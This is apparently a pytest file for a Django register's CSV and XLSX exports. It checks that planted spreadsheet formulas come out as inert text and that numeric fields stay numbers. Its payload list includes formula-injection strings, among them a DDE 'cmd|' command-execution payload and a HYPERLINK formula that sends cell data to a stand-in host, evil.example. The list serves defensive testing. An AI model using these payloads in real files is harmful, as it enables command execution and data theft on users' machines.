"""Text that a spreadsheet would run comes out as text in every file, and numbers come out as numbers."""

import csv
import io
import re
from collections.abc import Iterator
from itertools import islice

import openpyxl
import pytest
from django.contrib.auth.models import User
from django.core.cache import cache
from django.test import Client
from django.urls import reverse

from programmes.models import Programme
from programmes.tables import read_table
from programmes.tables.cells import plain_cell
from tests.project.addresses import list_addresses
from tests.project.planted import plant
from tests.project.register import published_register

pytestmark = pytest.mark.django_db

COMMANDS = ["1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example?x="&A1,"click")', "SUM(1;2)"]
PAYLOADS = [
    *(f"{live}{command}" for live in "=+-@" for command in COMMANDS),
    *(f"{live}{command}" for live in "＝＋－＠" for command in COMMANDS[:2]),
    *(f"{blank}={command}" for blank in ("\t", "\r", "\n", "\r\n") for command in COMMANDS[:2]),
    *("==1+1", "'=1+1", "''=1+1", "=@SUM(1)", "@=1", "-+1", "+-1", "-2+3", "=", "-", "+", "@"),
]
# A cell that a spreadsheet reads as a formula begins with one of these, whatever stands before it that it drops.
LIVE = re.compile(r"[=+\-@＝＋－＠\t\r\n\0]")
NUMBER = re.compile(r"-?\d+(\.\d+)?")


@pytest.fixture
def stranger() -> Client:
    cache.clear()
    published_register()
    return Client()


def file_lists() -> list[str]:
    """The lists that have files of their own."""
    return [address for address in list_addresses() if address != "/timeline/"]


def csv_cells(content: bytes) -> Iterator[str]:
    for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")):
        yield from row


def workbook(content: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(content))


def test_there_are_forty_payloads_and_each_is_live():
    assert len(set(PAYLOADS)) >= 40
    assert all(LIVE.match(payload.lstrip("'")) for payload in PAYLOADS)


def test_planted_formulas_are_text_in_every_csv(stranger):
    for payload in PAYLOADS:
        plant(payload)
        for address in file_lists():
            cells = list(csv_cells(b"".join(stranger.get(f"{address}?format=csv"))))
            live = [cell for cell in cells if LIVE.match(cell) and not NUMBER.fullmatch(cell)]
            assert not live, (address, payload, live)
            assert any(cell.startswith("'") and plain_cell(cell).startswith(payload[:20]) for cell in cells), address


def test_planted_formulas_are_text_in_every_workbook(stranger):
    for payload in PAYLOADS:
        plant(payload)
        for address in file_lists():
            for sheet in workbook(b"".join(stranger.get(f"{address}?format=xlsx"))):
                for cell in (cell for row in sheet.iter_rows() for cell in row if cell.value is not None):
                    assert cell.data_type in {"s", "n"}, (address, payload, cell.value)
                    assert not cell.hyperlink
                    if cell.data_type == "s":
                        assert not LIVE.match(cell.value), (address, payload, cell.value)


def test_what_was_asked_is_text_in_a_workbook(stranger):
    """The query is written on the sheet that says what the rows are."""
    for payload in PAYLOADS:
        answer = stranger.get("/programmes/", {"format": "xlsx", "q": payload, "country": payload, "sort": payload})
        for sheet in workbook(b"".join(answer)):
            for cell in (cell for row in sheet.iter_rows() for cell in row if cell.value is not None):
                assert cell.data_type != "f"
                assert cell.data_type == "n" or not LIVE.match(cell.value)


def test_an_editor_s_files_are_text_and_come_back_as_they_were(stranger):
    """What the import pages give to take home, opened in a spreadsheet and brought back, is what the register holds."""
    stranger.force_login(User.objects.create_superuser("root", password="x" * 14))
    for payload in islice(PAYLOADS, 0, None, 3):
        plant(payload)
        for model in ("programme", "funder", "grant", "term"):
            for ending in ("csv", "xlsx"):
                address = reverse(f"admin:programmes_{model}_import_file", args=["current", ending])
                content = stranger.get(address).content
                if ending == "csv":
                    cells = list(csv_cells(content))
                    assert not [cell for cell in cells if LIVE.match(cell) and not NUMBER.fullmatch(cell)]
                else:
                    types = {cell.data_type for row in workbook(content).active.iter_rows() for cell in row}
                    assert "f" not in types
                table = read_table(f"{model}.{ending}", content)
                if "\r" not in payload and "\n" not in payload and "\t" not in payload:
                    assert any(payload in row for row in table.rows), (model, ending, payload)


def test_numbers_stay_numbers(stranger):
    plant("=1+1")
    programme = Programme.objects.get(slug="shown-programme")
    answer = stranger.get("/programmes/?format=xlsx")
    sheet = workbook(b"".join(answer))["Rows"]
    names = [cell.value for cell in sheet[1]]
    cells = dict(zip(names, sheet[2], strict=True))
    assert (cells["total_usd"].data_type, cells["total_usd"].value) == ("n", programme.total_usd)
    assert (cells["sources"].data_type, cells["sources"].value) == ("n", programme.source_count)
    row = next(csv.DictReader(io.StringIO(b"".join(stranger.get("/programmes/?format=csv")).decode())))
    assert row["total_usd"] == "100000"
    result = stranger.get("/programmes/?format=json")
    assert b'"total_usd": 100000' in b"".join(result)
    statistics = workbook(b"".join(stranger.get("/statistics/?format=xlsx")))["Rows"]
    value = dict(zip([cell.value for cell in statistics[1]], statistics[2], strict=True))["value"]
    assert (value.data_type, value.value) == ("n", 521)
